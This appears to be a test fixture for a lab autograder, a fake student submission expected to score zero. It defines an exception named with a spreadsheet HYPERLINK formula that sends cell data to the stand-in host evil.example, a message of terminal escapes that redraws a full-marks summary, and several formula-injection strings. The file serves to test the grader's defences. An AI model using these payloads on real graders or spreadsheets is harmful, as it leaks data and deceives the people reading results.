# lab: 02_collectives
# base: student
# expect: 0
# issue 30 (5): an error whose class name is a spreadsheet formula and
# whose message is terminal escapes that redraw the summary with full marks.
Evil = type('=HYPERLINK("http://evil.example/?"&A1,"11/11")', (Exception,),
            {})


def allreduce_time(*a, **k):
    raise Evil("\x1b[2K\r\x1b[1A02_collectives_solution.ipynb  7.0  7\x1b[8m")


crossover = "=1+1"
t_2 = t_8 = "@SUM(A1:A9)"
